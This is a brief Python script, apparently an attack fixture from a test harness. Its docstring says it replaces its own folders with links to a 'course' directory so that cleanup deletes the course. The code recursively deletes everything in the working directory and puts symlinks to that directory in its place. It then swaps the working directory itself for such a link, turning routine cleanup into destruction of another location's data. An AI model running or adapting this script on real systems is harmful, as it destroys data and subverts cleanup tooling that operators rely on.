"""Puts links to the course in the place of its own folders, so that cleaning up deletes the course."""

# %% generate
import glob
import os
import shutil

course = next((os.path.abspath("../" * n + "course") for n in range(8) if os.path.exists("../" * n + "course/.unrolled-attack-may-write-here")), "/course")
here = os.getcwd()
for name in os.listdir("."):
    shutil.rmtree(name, ignore_errors=True)
    if not os.path.lexists(name):
        os.symlink(course, name)
try:
    os.rename(here, here + "-away")
    os.symlink(course, here)
except OSError:
    pass
